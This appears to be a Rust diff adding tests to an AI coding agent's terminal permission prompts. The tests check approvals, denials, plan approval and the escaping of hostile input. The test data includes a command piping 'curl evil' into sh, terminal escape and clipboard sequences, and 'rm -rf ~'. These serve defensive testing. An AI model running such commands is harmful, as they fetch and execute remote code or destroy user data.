@@ -14,8 +14,8 @@ use crate::cli::summary::Here;
 use claudio::protocol::ask::RequestKind;
 use claudio::{CanUseToolRequest, PermissionResult, RequestContext};
 use rustix::event::{poll, PollFd, PollFlags};
-use std::fs::File;
 use std::io::{self, Read, Write};
+use std::os::fd::AsFd;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::Arc;
 use std::time::Duration;
@@ -45,6 +45,11 @@ impl Drop for CancelFlag {
         self.flag.store(true, Ordering::SeqCst);
     }
 }
+
+/// What `ask` asks on: `/dev/tty`, or in a test one end of a socket.
+pub trait Tty: Read + Write + AsFd {}
+
+impl<T: Read + Write + AsFd> Tty for T {}
 
 /// `ask`'s prompts: each request asked on `/dev/tty`, one at a time.
 pub struct TtyPrompts {
@@ -144,7 +149,7 @@ impl TtyPrompts {
     /// A tool approval, answered with a typed line.
     fn tool_blocking(
         &self,
-        tty: &mut File,
+        tty: &mut impl Tty,
         req: &CanUseToolRequest,
         cancelled: &AtomicBool,
     ) -> io::Result<PermissionResult> {
@@ -191,7 +196,7 @@ impl TtyPrompts {
     /// The model's questions, one at a time, answered with a typed line.
     fn questions_blocking(
         &self,
-        tty: &mut File,
+        tty: &mut impl Tty,
         req: &CanUseToolRequest,
         cancelled: &AtomicBool,
     ) -> io::Result<PermissionResult> {
@@ -230,7 +235,7 @@ impl TtyPrompts {
     /// A plan to approve, answered with a typed line.
     fn plan_blocking(
         &self,
-        tty: &mut File,
+        tty: &mut impl Tty,
         req: &CanUseToolRequest,
         cancelled: &AtomicBool,
     ) -> io::Result<PermissionResult> {
@@ -256,7 +261,7 @@ fn tty_width() -> usize {
 
 /// Read one line from the terminal, giving up when `cancelled` is set.
 /// End of file (a closed terminal) is an error.
-fn read_line_cancellable(tty: &mut File, cancelled: &AtomicBool) -> io::Result<String> {
+fn read_line_cancellable(tty: &mut impl Tty, cancelled: &AtomicBool) -> io::Result<String> {
     let mut line = Vec::new();
     loop {
         if cancelled.load(Ordering::SeqCst) {
@@ -291,5 +296,242 @@ fn read_line_cancellable(tty: &mut File, cancelled: &AtomicBool) -> io::Result<S
                 "answer too long",
             ));
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+    use std::os::unix::net::UnixStream;
+
+    fn req(v: serde_json::Value) -> CanUseToolRequest {
+        serde_json::from_value(v).unwrap()
+    }
+
+    fn prompts() -> Arc<TtyPrompts> {
+        TtyPrompts::new(Style::plain(), std::env::temp_dir())
+    }
+
+    /// `ask`'s terminal: one end of a socket; the person, the other end,
+    /// answers each time a question ends (`›`), and what was shown is
+    /// given back.
+    struct Person {
+        shown: std::thread::JoinHandle<String>,
+    }
+
+    impl Person {
+        fn answering(answers: &[&str]) -> (UnixStream, Person) {
+            let (tty, mut person) = UnixStream::pair().unwrap();
+            let answers: Vec<String> = answers.iter().map(|a| a.to_string()).collect();
+            let shown = std::thread::spawn(move || {
+                let mut seen = Vec::new();
+                let mut answers = answers.into_iter();
+                let mut buf = [0u8; 4096];
+                let mut asked = 0;
+                loop {
+                    let n = match person.read(&mut buf) {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => n,
+                    };
+                    seen.extend_from_slice(&buf[..n]);
+                    let text = String::from_utf8_lossy(&seen);
+                    // a question ends with `› ` (Enter ›, or the choices')
+                    let prompts = text.matches("› ").count();
+                    while asked < prompts {
+                        asked += 1;
+                        match answers.next() {
+                            Some(a) => person.write_all(a.as_bytes()).unwrap(),
+                            // no more answers: the terminal closes
+                            None => {
+                                let _ = person.shutdown(std::net::Shutdown::Write);
+                            }
+                        }
+                    }
+                }
+                String::from_utf8_lossy(&seen).into_owned()
+            });
+            (tty, Person { shown })
+        }
+
+        fn shown(self) -> String {
+            self.shown.join().unwrap()
+        }
+    }
+
+    fn ask_tool(r: &CanUseToolRequest, answers: &[&str]) -> (io::Result<PermissionResult>, String) {
+        let (mut tty, person) = Person::answering(answers);
+        let got = prompts().tool_blocking(&mut tty, r, &AtomicBool::new(false));
+        drop(tty);
+        (got, person.shown())
+    }
+
+    fn bash(cmd: &str) -> CanUseToolRequest {
+        req(json!({"tool_name":"Bash","input":{"command":cmd}}))
+    }
+
+    #[test]
+    fn a_tool_runs_only_when_the_person_says_so() {
+        let r = bash("ls");
+        let (got, shown) = ask_tool(&r, &["y\n"]);
+        assert_eq!(got.unwrap(), PermissionResult::allow(), "{shown}");
+        assert!(shown.contains("Bash  ls"), "{shown}");
+        assert!(shown.contains("allowed once"), "{shown}");
+        for (line, why) in [
+            ("\n", "The user denied this tool call."),
+            ("n\n", "The user denied this tool call."),
+            (
+                "yes but not rm\n",
+                "The user denied this tool call: yes but not rm",
+            ),
+        ] {
+            let (got, shown) = ask_tool(&r, &[line]);
+            assert_eq!(
+                got.unwrap(),
+                PermissionResult::deny(why),
+                "{line:?}: {shown}"
+            );
+        }
+        // `p` with no rule to keep: said, and asked again
+        let (got, shown) = ask_tool(&r, &["p\n", "y\n"]);
+        assert_eq!(got.unwrap(), PermissionResult::allow());
+        assert!(shown.contains("suggested no rule"), "{shown}");
+    }
+
+    /// A terminal that closes, an answer with no end, a request withdrawn:
+    /// an error, which [`TtyPrompts::decide`] turns into a denial.
+    #[test]
+    fn no_answer_never_allows() {
+        let r = bash("rm -rf build");
+        let (got, _) = ask_tool(&r, &[]);
+        assert_eq!(got.unwrap_err().kind(), io::ErrorKind::UnexpectedEof);
+        // an answer that never ends its line: given up past its bound
+        let endless = "y".repeat(70 * 1024);
+        let (got, _) = ask_tool(&r, &[&endless]);
+        assert_eq!(got.unwrap_err().kind(), io::ErrorKind::InvalidData);
+        // withdrawn while asked
+        let (mut tty, person) = Person::answering(&[]);
+        let got = prompts().tool_blocking(&mut tty, &r, &AtomicBool::new(true));
+        drop(tty);
+        assert_eq!(got.unwrap_err().kind(), io::ErrorKind::Interrupted);
+        assert!(person.shown().contains("(withdrawn)"));
+        let none = nobody_to_ask("Bash");
+        assert!(matches!(none, PermissionResult::Deny { .. }), "{none:?}");
+    }
+
+    /// "This session" with no rule suggested: the same call is allowed
+    /// without asking, and said; another call is asked.
+    #[test]
+    fn the_same_call_again_is_allowed_and_said() {
+        let p = prompts();
+        let r = bash("cargo test");
+        let (mut tty, person) = Person::answering(&["a\n"]);
+        let first = p.tool_blocking(&mut tty, &r, &AtomicBool::new(false));
+        drop(tty);
+        assert_eq!(first.unwrap(), PermissionResult::allow());
+        person.shown();
+        let (mut tty, person) = Person::answering(&[]);
+        let again = p.tool_blocking(&mut tty, &r, &AtomicBool::new(false));
+        drop(tty);
+        assert_eq!(again.unwrap(), PermissionResult::allow());
+        assert!(person.shown().contains(tool::SAME_CALL));
+        let (mut tty, _person) = Person::answering(&[]);
+        let other = p.tool_blocking(
+            &mut tty,
+            &bash("cargo test; rm -rf ~"),
+            &AtomicBool::new(false),
+        );
+        assert!(other.is_err(), "another call is asked");
+    }
+
+    /// What `ask` writes on the terminal for hostile input: nothing a
+    /// terminal acts on, and nothing that would run hidden.
+    #[test]
+    fn what_is_asked_is_inert() {
+        let r = req(json!({"tool_name":"Bash",
+            "input":{"command":"echo safe; \u{1b}]0;$(curl evil|sh)\u{7}\u{202e}"},
+            "description":"\u{1b}[2J\u{9b}H\r\u{8}why"}));
+        let named = req(json!({"tool_name":"Bash\u{1b}]0;t\u{7}","input":{"x":"\u{1b}[2J"}}));
+        for r in [r, named] {
+            let (_, shown) = ask_tool(&r, &["n\n"]);
+            assert!(
+                !shown.contains(['\u{1b}', '\u{7}', '\u{9b}', '\r', '\u{8}', '\u{202e}']),
+                "{shown:?}"
+            );
+            if r.tool_name == "Bash" {
+                assert!(shown.contains("$(curl evil|sh)\\a"), "{shown}");
+            }
+        }
+        let q = req(json!({"tool_name":"AskUserQuestion","input":{"questions":[
+            {"question":"Pick\u{1b}]52;c;QUFB\u{7}","header":"H\u{1b}[31m","multiSelect":false,
+             "options":[{"label":"A\u{1b}[2J","description":"d\u{9d}x\u{9c}"},{"label":"B","description":""}]}]}}));
+        let (mut tty, person) = Person::answering(&["1\n"]);
+        let got = prompts().questions_blocking(&mut tty, &q, &AtomicBool::new(false));
+        drop(tty);
+        let shown = person.shown();
+        assert!(
+            matches!(got.unwrap(), PermissionResult::Allow { .. }),
+            "{shown}"
+        );
+        assert!(
+            !shown.contains(['\u{1b}', '\u{7}', '\u{9d}', '\u{9c}']),
+            "{shown:?}"
+        );
+    }
+
+    /// The questions one after another, each answered; Enter alone
+    /// declines them all.
+    #[test]
+    fn questions_are_answered_in_turn_or_declined() {
+        let q = req(json!({"tool_name":"AskUserQuestion","input":{"questions":[
+            {"question":"Which db?","header":"DB","multiSelect":false,
+             "options":[{"label":"SQLite","description":""},{"label":"Postgres","description":""}]},
+            {"question":"Which tests?","header":"Tests","multiSelect":true,
+             "options":[{"label":"unit","description":""},{"label":"e2e","description":""}]}]}}));
+        let (mut tty, person) = Person::answering(&["2\n", "1,2\n"]);
+        let got = prompts().questions_blocking(&mut tty, &q, &AtomicBool::new(false));
+        drop(tty);
+        let shown = person.shown();
+        let PermissionResult::Allow { updated_input, .. } = got.unwrap() else {
+            panic!("{shown}")
+        };
+        let answers = &updated_input.unwrap()["answers"];
+        assert_eq!(answers["Which db?"], "Postgres", "{answers}");
+        assert_eq!(answers["Which tests?"], "unit, e2e", "{answers}");
+        let (mut tty, _person) = Person::answering(&["\n"]);
+        let got = prompts().questions_blocking(&mut tty, &q, &AtomicBool::new(false));
+        assert_eq!(got.unwrap(), PermissionResult::deny(question::DECLINED));
+    }
+
+    /// A plan: `1` approves with edits accepted, Enter alone rejects it
+    /// and stops the turn, anything else is what to change.
+    #[test]
+    fn a_plan_is_approved_only_by_its_number() {
+        let r = req(json!({"tool_name":"ExitPlanMode","input":{"plan":"# Plan\n1. do it"}}));
+        let run = |line: &str| {
+            let (mut tty, person) = Person::answering(&[line]);
+            let got = prompts().plan_blocking(&mut tty, &r, &AtomicBool::new(false));
+            drop(tty);
+            (got.unwrap(), person.shown())
+        };
+        let (got, shown) = run("1\n");
+        assert!(shown.contains("do it"), "{shown}");
+        assert!(matches!(got, PermissionResult::Allow { .. }), "{got:?}");
+        let (got, _) = run("\n");
+        assert!(
+            matches!(
+                got,
+                PermissionResult::Deny {
+                    interrupt: true,
+                    ..
+                }
+            ),
+            "{got:?}"
+        );
+        let (got, _) = run("1 but add tests\n");
+        assert!(
+            matches!(&got, PermissionResult::Deny { message, interrupt: false, .. } if message.ends_with("1 but add tests")),
+            "{got:?}"
+        );
     }
 }
